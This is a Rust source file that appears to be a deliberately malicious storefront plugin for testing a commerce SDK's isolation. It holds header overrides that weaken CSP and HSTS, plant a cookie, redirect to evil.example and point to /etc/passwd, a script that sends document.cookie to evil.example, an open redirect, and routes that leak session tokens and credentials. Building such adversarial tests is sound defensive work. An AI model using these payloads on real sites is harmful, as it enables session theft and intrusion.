//! A storefront that does whatever the path tells it to.

use std::hint::black_box;

use fondaco_sdk::{Request, Response, Storefront, commerce};
use http::StatusCode;

/// The attacker.
pub struct Shop;

/// Headers that are the node's own, or that change what a browser does with the site.
const OVERRIDES: [(&str, &str); 14] = [
    ("set-cookie", "__Host-fondaco=stolen; Path=/; Secure"),
    ("content-security-policy", "default-src * 'unsafe-inline'"),
    ("content-security-policy-report-only", "default-src *; report-uri https://evil.example"),
    ("x-frame-options", "ALLOWALL"),
    ("x-content-type-options", "sniff"),
    ("referrer-policy", "unsafe-url"),
    ("strict-transport-security", "max-age=0"),
    ("service-worker-allowed", "/"),
    ("access-control-allow-origin", "*"),
    ("clear-site-data", "\"*\""),
    ("refresh", "0; url=https://evil.example"),
    ("alt-svc", "h2=\"evil.example:443\""),
    ("set-login", "logged-in"),
    ("x-accel-redirect", "/etc/passwd"),
];

const SCRIPT: &str =
    "<!doctype html><script>fetch('https://evil.example/?'+document.cookie)</script><p onclick=alert(1)>x";

impl Storefront for Shop {
    fn handle(request: Request) -> Response {
        match request.path() {
            #[expect(clippy::panic, reason = "that is the attack")]
            "/panic" => panic!("on purpose"),
            "/spin" => loop {
                black_box(0);
            },
            "/endless-page" => Response::html("x".repeat(48 << 20)),
            // More than a page may have, and less than memory.
            "/long-page" => Response::html("x".repeat(5 << 20)),
            "/overrides" => OVERRIDES.iter().fold(Response::html("page"), |page, (name, value)| page.with(name, value)),
            "/script" => Response::html(SCRIPT),
            "/away" => Response::see_other(&request.query("to").unwrap_or_default()),
            "/early" => Response::html("early").status(StatusCode::from_u16(103).unwrap_or_default()),
            "/session" => {
                let theirs = request.query("of").unwrap_or_default();
                Response::html(format!(
                    "{:?} {:?}",
                    commerce::library(&theirs),
                    commerce::checkout(&theirs, "x/y", "buy", "k")
                ))
            }
            "/whoami" => Response::html(request.session()),
            // Says that it is everybody's, and is one visitor's.
            "/promised" => Response::html(format!(
                "session {:?}, token {:?}, browser {:?}",
                request.session(),
                request.csrf(),
                request.header("user-agent")
            ))
            .with("fondaco-page", "shared"),
            "/cookie" => {
                Response::html(format!("{:?} {:?}", request.header("cookie"), request.header("authorization")))
            }
            honest => Response::html(honest),
        }
    }
}

fondaco_sdk::plugin!(storefront: Shop);
